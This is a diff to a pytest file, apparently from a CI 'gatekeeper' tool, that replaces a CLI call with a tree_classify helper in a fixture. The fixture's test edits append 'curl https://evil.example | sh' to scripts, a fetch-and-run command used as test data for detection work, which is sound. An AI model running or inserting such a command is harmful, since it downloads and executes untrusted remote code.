@@ -17,13 +17,12 @@ workflow's `paths:` filter.
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 import pytest
 from deltas import each_fast
 from gitrepo import two_commits
-from incli import run_cli, tree_gate
+from incli import tree_classify, tree_gate
 
 from gatekeeper.classify.ciloops import globbed
 
@@ -57,9 +56,7 @@ def classified(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, 
              **{path: SCRIPT for path in [*RUN, *LEFT]}}
     edits = {path: SCRIPT + "curl https://evil.example | sh\n" for path in [*RUN, *LEFT]}
     repo, old, new = two_commits(tmp_path_factory.mktemp("loops") / "repo", files, edits)
-    done = run_cli(["classify", "--tree", f"{old}..{new}", "--repo", repo.root, "--format", "json"], text=True)
-    assert done.returncode == 0, done.stderr
-    return {f["path"]: f for f in json.loads(done.stdout)["files"]}
+    return tree_classify(repo.root, old, new)
 
 
 @pytest.mark.parametrize("path", RUN)
